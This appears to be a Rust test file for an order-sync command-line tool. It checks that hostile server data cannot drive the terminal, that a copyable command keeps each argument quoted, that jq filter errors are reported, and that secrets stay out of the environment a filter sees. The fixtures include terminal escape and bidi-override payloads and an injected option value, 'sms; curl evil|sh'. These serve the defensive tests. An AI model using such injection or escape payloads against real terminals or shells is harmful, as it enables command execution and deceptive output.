//! Text from outside, and text to be copied, on a real terminal and in pipes.

use serde_json::json;
use wiremock::{Mock, MockServer, Request, ResponseTemplate};

use super::pty::{ends, ends_restored, expect, send, start_in_shell};
use super::support::{Home, Run};

/// A cleared screen, a title, a bell, a control of eight bits, and letters turned round.
const EVIL: &str = "\u{1b}[2J\u{1b}]0;x\u{7}\u{9b}31m\u{202e}gnp\u{2066}";
const OPTION: &str = "sms; curl evil|sh";

/// What must not reach a terminal.
fn driving(shown: &str) -> Vec<&'static str> {
    let all = ["\u{1b}[2J", "\u{1b}]0;", "\u{7}", "\u{9b}", "\u{202e}", "\u{2066}"];
    all.into_iter().filter(|text| shown.contains(text)).collect()
}

async fn hostile() -> MockServer {
    let server = MockServer::start().await;
    let item = json!({"id": format!("i1{EVIL}"), "retailerId": 1, "retailerName": EVIL, "orderId": EVIL, "itemName": EVIL,
        "quantity": 1, "price": 1.50, "currency": "USD", "orderDate": "2026-01-01T00:00:00Z", "shipmentStatus": EVIL});
    let answer = move |request: &Request| match request.url.path() {
        "/sync/orders" if request.url.query().is_some_and(|query| query.contains("format=csv")) => {
            ResponseTemplate::new(406)
        }
        "/sync/orders" => ResponseTemplate::new(200).insert_header("x-total-count", "1").set_body_json(json!([item])),
        _ => {
            let body = json!({"code": EVIL, "message": EVIL, "details": {"field": EVIL}});
            ResponseTemplate::new(400).set_body_json(body)
        }
    };
    Mock::given(wiremock::matchers::any()).respond_with(answer).mount(&server).await;
    server
}

/// Runs in a terminal of its own.
fn on_a_terminal(home: &Home, address: &str, arguments: &[&str]) -> (i32, String) {
    let environment = [("ORDERSYNC_BASE_URL", address), ("ORDERSYNC_TOKEN", "t"), ("ORDERSYNC_PAGER", "cat")];
    let mut session = start_in_shell(home, arguments, &environment);
    let shown = expect(&mut session, "ended ");
    let code = expect(&mut session, "\r\n");
    ends(session, 0);
    let shown = shown.split_once(".\r\n").map_or(shown.as_str(), |(_, rest)| rest).replace("\r\n", "\n");
    (code.trim().parse().expect("a code"), shown)
}

#[tokio::test]
async fn no_result_drives_the_terminal_and_a_pipe_gets_the_exact_text() {
    let server = hostile().await;
    let address = server.uri();
    let home = Home::new();
    for arguments in [
        &["orders", "list"][..],
        &["orders", "list", "-o", "csv"],
        &["orders", "list", "-o", "json"],
        &["orders", "list", "-o", "json", "--color", "never"],
        &["orders", "list", "-o", "jsonl"],
        &["orders", "list", "--jq", ".[].itemName"],
        &["orders", "list", "--jq", "."],
        &["orders", "list", "--fields", "itemName"],
        &["orders", "export"],
        &["orders", "export", "--format", "jsonl"],
        &["orders", "export", "--out", "/dev/tty"],
        &["orders", "summary", "--html", "-"],
        &["api", "/sync/orders"],
        &["api", "/sync/orders", "--paginate"],
        &["api", "/sync/orders", "--include"],
        &["connections"],
        &["connections", "-o", "json"],
    ] {
        let (_, shown) = on_a_terminal(&home, &address, arguments);
        assert_eq!(driving(&shown), Vec::<&str>::new(), "{arguments:?}: {shown:?}");
        assert!(shown.contains("gnp"), "{arguments:?}: {shown:?}");
    }
    assert_eq!(home.run_at(&address, &["orders", "list", "--jq", ".[].itemName"]).ends(0).out, format!("{EVIL}\n"));
}

#[tokio::test]
async fn json_on_a_terminal_is_indented_and_coloured_and_plain_in_a_pipe() {
    let server = MockServer::start().await;
    let body = "[{\"connectionId\":\"c1\",\"retailerId\":1,\"status\":\"valid\",\"n\":1430.710}]";
    let answer = ResponseTemplate::new(200).set_body_raw(body, "application/json");
    Mock::given(wiremock::matchers::any()).respond_with(answer).mount(&server).await;
    let address = server.uri();
    let home = Home::new();
    let laid_out = "[\n  {\n    \"connectionId\": \"c1\",\n    \"retailerId\": 1,\n    \"status\": \"valid\",\n    \"n\": 1430.710\n  }\n]\n";
    for arguments in [&["api", "/sync/x"][..], &["api", "/sync/x", "--paginate"], &["api", "/sync/x", "--jq", "."]] {
        let (_, shown) = on_a_terminal(&home, &address, arguments);
        assert!(shown.contains("\u{1b}["), "{arguments:?}: {shown:?}");
        assert_eq!(console::strip_ansi_codes(&shown), laid_out, "{arguments:?}");
        let plain = on_a_terminal(&home, &address, &[arguments, &["--color", "never"]].concat()).1;
        assert_eq!(plain, laid_out, "{arguments:?}");
    }
    let piped = |arguments: &[&str]| home.run_at(&address, arguments).ends(0).out;
    assert_eq!(piped(&["api", "/sync/x"]), body);
    assert_eq!(piped(&["api", "/sync/x", "--jq", "."]), format!("{body}\n"));
    let listed = piped(&["connections", "-o", "json"]);
    let coloured = piped(&["connections", "-o", "json", "--color", "always"]);
    assert!(coloured.contains("\u{1b}[") && !listed.contains('\u{1b}'), "{coloured:?}");
    assert_eq!(console::strip_ansi_codes(&coloured), listed);
}

#[tokio::test]
async fn a_curl_command_is_one_line_on_a_narrow_terminal() {
    let server = hostile().await;
    let listed = ["orders", "list", "--curl", "--since", "2026-01-01", "--jq", "length"];
    let (_, shown) = on_a_terminal(&Home::new(), &server.uri(), &listed);
    let line = shown.lines().find(|line| line.starts_with("curl ")).unwrap_or_else(|| panic!("{shown}"));
    assert!(line.len() > 80 && line.contains("-H \"Authorization: Bearer $ORDERSYNC_TOKEN\""), "{shown}");
    let words = shlex::split(line).expect("words");
    assert!(words.contains(&"Authorization: Bearer $ORDERSYNC_TOKEN".to_owned()), "{words:?}");
    // Nothing of a command is on a line of its own, however many requests the list takes.
    let is_command = |line: &&str| line.starts_with("curl ") && line.contains("-H ");
    assert!(shown.lines().filter(|line| line.contains("-H ")).all(|line| is_command(&line)), "{shown}");
    assert_eq!(shown.matches("curl ").count(), shown.lines().filter(is_command).count(), "{shown}");
}

/// A session that waits for a choice among options of which one would harm if it were run.
async fn asking() -> MockServer {
    let server = MockServer::start().await;
    let session = json!({
        "batchId": "b 1", "status": "syncing",
        "retailerSyncSessions": [{"retailerId": 1, "displayName": "Shop", "connectionId": "c1", "syncStatus": "userintervention"}],
        "events": [{"seq": 1, "type": "mfa", "connectionId": "c1", "retailerId": 1, "reqId": "r1", "at": "2026-01-01T00:00:00Z",
            "mfa": {"eventType": "choose", "prompt": "Which?", "options": [{"id": OPTION, "label": "x"}, {"id": "email", "label": "y"}]}}],
    });
    let answer = move |request: &Request| match request.url.path() {
        path if path.starts_with("/sync/sessions/") => ResponseTemplate::new(200).set_body_json(&session),
        _ => ResponseTemplate::new(200).set_body_json(json!([])),
    };
    Mock::given(wiremock::matchers::any()).respond_with(answer).mount(&server).await;
    server
}

#[tokio::test]
async fn a_command_to_copy_keeps_every_word_one_word() {
    let server = asking().await;
    let address = server.uri();
    let home = Home::new();
    let folder = home.path().join("config");
    std::fs::create_dir_all(&folder).expect("folder");
    let config = format!("[profiles.\"my shop\"]\nbase_url = \"{address}\"\n");
    std::fs::write(folder.join("config.toml"), config).expect("config");
    let words = ["ordersync", "mfa", "--batch", "b 1", "--option", OPTION, "--profile", "my shop"];
    let mut command = home.command(&["mfa", "-o", "json", "--profile", "my shop"]);
    command.env("ORDERSYNC_TOKEN", "t");
    let error = Run::of(command).ends(7).error();
    let line = error["details"]["command"].as_str().expect("a command");
    assert_eq!(shlex::split(line).expect("words"), words, "{line}");
    assert!(error["hint"].as_str().is_some_and(|hint| hint.contains(line)), "{error}");

    // On a terminal, too, and on one line, however narrow it is.
    let environment = [("ORDERSYNC_TOKEN", "t"), ("COLS", "50")];
    let mut session = start_in_shell(&home, &["mfa", "--no-input", "--profile", "my shop"], &environment);
    let shown = expect(&mut session, "ended 7");
    ends(session, 0);
    assert!(shown.contains(line), "{line}: {shown}");
}

#[test]
fn a_filter_that_never_ends_is_ended_by_whoever_wants() {
    let home = Home::new();
    for signal in ["\x03", ""] {
        let mut session = start_in_shell(&home, &["retailers", "--jq", "def f: f; \"begun\", f"], &[]);
        let shell = expect(&mut session, "begun");
        if signal.is_empty() {
            let shell =
                shell.split_once("shell ").and_then(|(_, rest)| rest.split_once('.')).expect("a shell").0.to_owned();
            let kill = std::process::Command::new("pkill").args(["-TERM", "-P", &shell]).status();
            assert!(kill.expect("pkill").success());
        } else {
            send(&mut session, signal);
        }
        ends_restored(session, 130);
    }
    let started = std::time::Instant::now();
    home.run(&["retailers", "--jq", "def f: f; f", "--timeout", "1s"]).ends(8).says("--timeout");
    home.run(&["config", "list", "--jq", "def f: f; f", "--timeout", "1s"]).ends(8).says("--timeout");
    assert!(started.elapsed().as_secs() < 300);
}

#[test]
fn a_filter_that_fails_says_why_and_on_what() {
    let home = Home::new();
    for (filter, said) in [
        (".foo", "--jq: cannot index array with \"foo\"."),
        (".[0] + 1", "--jq: cannot calculate object + 1."),
        (".[0].displayName | keys", "\"Marrowby Market\""),
        (".[0].displayName | fromjson", "Marrowby Market"),
        (".[] | error(\"bad: \" + .displayName)", "--jq: bad: Marrowby Market."),
        (".[] | error(.)", "--jq: {\"retailerId\":1,\"displayName\":\"Marrowby Market\","),
        ("error(\"none is left\")", "--jq: none is left."),
    ] {
        let run = home.run(&["retailers", "--jq", filter]).ends(1).says(said);
        assert!(run.err.len() < 1200, "{filter}: {}", run.err);
    }
    // The results before the error are printed, as with jq.
    home.run(&["retailers", "--jq", ".[0].retailerId, .foo"]).ends(1).prints("1\n");
    assert_eq!(home.run(&["retailers", "--jq", ".[0].retailerId, halt, 2"]).ends(0).out, "1\n");
}

#[test]
fn a_filter_that_uses_up_its_stack_is_an_error() {
    let home = Home::new();
    for filter in ["def f: 1 + f; f", "\"[\" * 3000000 | fromjson"] {
        home.run(&["retailers", "--jq", filter]).ends(1).says("--jq: the filter recursed too deeply");
    }
    // The results before it are printed, and the error is JSON if that was asked for.
    let run = home.run(&["retailers", "-o", "jsonl", "--jq", "1, (def f: 1 + f; f)"]).ends(1);
    assert_eq!(run.error()["code"], "JQ");
    // Reading an expression recurses, too.
    let nested = |depth: usize| format!("{}1{}", "(".repeat(depth), ")".repeat(depth));
    home.run(&["config", "list", "--jq", &nested(16_000)]).ends(0).prints("1\n");
    home.run(&["config", "list", "--jq", &"[".repeat(32 << 10)]).ends(2).says("ends too early");
    home.run(&["config", "list", "--jq", &nested(17_000)]).ends(2).says("jq -f FILE");
}

#[test]
fn what_a_filter_says_beside_its_results_is_on_standard_error() {
    let home = Home::new();
    let run = |filter: &str| home.run(&["retailers", "--jq", filter]);
    for (filter, out, err) in [
        ("1, (2 | debug), 3", "1\n2\n3\n", "[\"DEBUG:\",2]\n"),
        ("1 | debug(\"x\", .)", "1\n", "[\"DEBUG:\",\"x\"]\n[\"DEBUG:\",1]\n"),
        ("\"a\" | stderr", "a\n", "a\n"),
        ("1, (\"fine\" | halt_error(0)), 2", "1\n", "fine\n"),
    ] {
        let run = run(filter).ends(0);
        assert_eq!((run.out.as_str(), run.err.as_str()), (out, err), "{filter}");
    }
    for (filter, out, err) in [
        ("1, (\"None is left.\" | halt_error), 2", "1\n", "error: --jq: None is left."),
        ("{a: 1} | halt_error(7)", "", "error: --jq: {\"a\":1}."),
        ("try halt_error catch 1", "", "error: --jq: [{"),
        ("1, halt(3), 2", "1\n", "error: --jq: the filter ended with the exit code 3."),
        ("\"x\" | halt_error(\"y\")", "", "error: --jq: cannot use"),
        ("1, error(null)", "1\n", "error: --jq: "),
    ] {
        let run = run(filter).ends(1).says(err);
        assert_eq!(run.out, out, "{filter}");
        assert!(run.err.len() < 1500, "{filter}: {}", run.err);
    }
    for (filter, said) in [
        ("input", "there is no filter `input`"),
        ("[inputs]", "there is no filter `inputs`"),
        ("input_filename", "there is no filter `input_filename`"),
        ("$__loc__", "there is no variable"),
        ("$__prog_args", "there is no variable"),
    ] {
        run(filter).ends(2).says(said).says("hint: ");
    }
}

#[test]
fn a_filter_reads_the_environment_without_secrets() {
    let home = Home::new();
    for filter in ["env", "$ENV"] {
        let mut command = home.command(&["retailers", "--jq", filter]);
        for name in ["TOKEN", "CLIENT_SECRET", "LINK_TOKEN", "SERVICE_KEY", "OTP_GATEWAY_SECRET"] {
            command.env(format!("ORDERSYNC_{name}"), "canary");
        }
        command
            .env("HTTPS_PROXY", "http://u:canary@127.0.0.1:1")
            .env("https_proxy", "http://canary:1")
            .env("WANTED", "42");
        let run = Run::of(command).ends(0);
        assert!(!run.out.contains("canary") && run.json()["WANTED"] == "42", "{}", run.out);
    }
}

/// What is looked for stays; what is copied stays whole; nothing is wider than the terminal.
#[tokio::test]
async fn tables_fit_narrow_terminals_and_keep_item_reason_and_date() {
    let server = MockServer::start().await;
    let item = json!({"id": "item_0123456789abcdefghij0123456", "retailerId": 1, "retailerName": "Voltaquill Electronics",
        "orderId": "113-1234567-1234567", "itemName": "Chicken Thighs, boneless, family pack", "quantity": 1, "price": 137.19334,
        "currency": "USD", "orderDate": "2026-01-01T00:00:00Z", "shipmentStatus": "Ready for collection"});
    let connection = json!({"connectionId": "conn_0123456789abcdefghij01234", "retailerId": 1, "status": "invalid",
        "displayName": "Voltaquill Electronics", "statusReason": "retailer_session_expired",
        "lastSyncAt": "2026-01-01T10:00:00Z"});
    let answer = move |request: &Request| match request.url.path() {
        "/sync/orders" => ResponseTemplate::new(200).insert_header("x-total-count", "1").set_body_json(json!([item])),
        _ => ResponseTemplate::new(200).set_body_json(json!([connection])),
    };
    Mock::given(wiremock::matchers::any()).respond_with(answer).mount(&server).await;
    let address = server.uri();
    let home = Home::new();
    let shown = |arguments: &[&str], columns: &str| {
        let environment = [("ORDERSYNC_BASE_URL", address.as_str()), ("ORDERSYNC_TOKEN", "t"), ("COLS", columns)];
        let mut session = start_in_shell(&home, arguments, &environment);
        let shown = expect(&mut session, "ended 0");
        ends(session, 0);
        let shown = console::strip_ansi_codes(&shown).replace("\r\n", "\n");
        shown.split_once(".\n").map_or(shown.as_str(), |(_, rest)| rest).to_owned()
    };
    for columns in ["50", "80", "120"] {
        let width: usize = columns.parse().expect("a number");
        let orders = shown(&["orders", "list"], columns);
        let connections = shown(&["connections"], columns);
        let overview = shown(&[], columns);
        for line in [&orders, &connections, &overview].into_iter().flat_map(|text| text.lines()) {
            assert!(console::measure_text_width(line) <= width, "{columns}: {line}");
        }
        assert!(orders.contains("Chicken Thighs") && orders.contains("137.19 USD"), "{columns}: {orders}");
        assert!(connections.contains("Voltaquill") && connections.contains("sign-in expired"), "{connections}");
    }
    assert!(shown(&["connections"], "80").contains("2026-01-01 10:00"));
    assert!(shown(&["orders", "list"], "160").contains("item_0123456789abcdefghij0123456"));
    let settings = shown(&["config", "list"], "50");
    let folder = home.path().join("data").display().to_string();
    assert!(settings.contains(&folder), "{folder}: {settings}");
}
